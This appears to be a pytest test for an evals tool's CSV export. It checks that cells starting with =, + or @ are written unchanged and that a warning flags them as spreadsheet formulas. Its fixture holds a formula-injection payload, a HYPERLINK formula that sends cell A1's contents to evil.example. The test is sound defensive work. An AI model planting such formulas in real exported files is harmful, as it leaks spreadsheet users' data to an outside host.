"""GOV.UK output mode writes cells as their tool does, and says which would open as formulas."""

from __future__ import annotations

import csv
import json

import pytest

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_cells_are_written_as_theirs_and_named(pytester: pytest.Pytester) -> None:
    (pytester.path / "data").mkdir()
    rows = [{"question": FORMULA, "expected_outcome": True, "actual_outcome": True, "model": "@SUM(1+1)"},
            {"question": "plain", "expected_outcome": False, "actual_outcome": False, "model": "m"}]
    (pytester.path / "data" / "jailbreak_guardrails.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (pytester.path / "jailbreak_guardrails.yaml").write_text(
        "what: x\ngenerate: false\ninput_path: data/jailbreak_guardrails.jsonl\n", encoding="utf-8")
    result = pytester.runpytest("--evals-suite-pattern", "jailbreak_guardrails.yaml",
                                "--evals-govuk-outputs", "out", "-p", "no:randomly")
    assert result.ret == 0
    (path,) = (pytester.path / "out").glob("jailbreak_guardrails/*/results.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert FORMULA in cells and "@SUM(1+1)" in cells  # as their pandas writer leaves them
    result.stdout.fnmatch_lines(["WARNING GOV.UK outputs: *results.csv: 2 cell(s) start with =, + or @ and open "
                                 "as spreadsheet formulas, as in their tool's files (first: row 1 column *"])
